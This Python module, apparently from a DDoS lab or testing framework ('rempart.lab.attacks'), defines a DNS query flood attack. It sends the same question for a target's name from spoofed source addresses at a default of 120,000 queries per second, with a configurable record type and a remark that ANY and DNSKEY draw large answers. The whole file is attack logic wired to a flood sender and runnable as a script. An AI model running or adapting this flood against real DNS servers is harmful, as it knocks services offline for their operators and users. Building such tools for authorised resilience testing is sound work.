"""DNS query flood: one and the same question, again and again, from spoofed sources."""

from __future__ import annotations

from pydantic import Field

from rempart.lab.attacks.contract import Attack, AttackParameters, Order, Sources, Unit
from rempart.lab.attacks.dns_questions import question
from rempart.lab.attacks.ip_frames import Packet, flood
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender


class DnsQueryFlood(AttackParameters):
    """What is asked."""

    kind: str = Field(default="A", pattern=r"^[A-Z0-9]{1,10}$")
    """Record type; ANY and DNSKEY draw large answers."""


DNS_QUERY_FLOOD = Attack(
    name="dns-query-flood",
    unit=Unit.QUERIES,
    summary="questions for the site's own name from spoofed sources",
    defaults=DnsQueryFlood(rate=120_000, sources=Sources.SPOOFED, v6_share=0.1),
    sender=lambda order: own_sender(order, "dns_query_flood", packets=True),
    concerns_dns=True,
)


def packet(order: Order, parameters: DnsQueryFlood) -> Packet:
    """The same question in each packet."""
    return question(order, order.target.host, parameters.kind)


def carry_out(order: Order, tally: Tally) -> None:
    parameters = DnsQueryFlood.model_validate(order.parameters)
    flood(order, parameters, tally, lambda v6: packet(order, parameters))


if __name__ == "__main__":
    run_sender(carry_out)
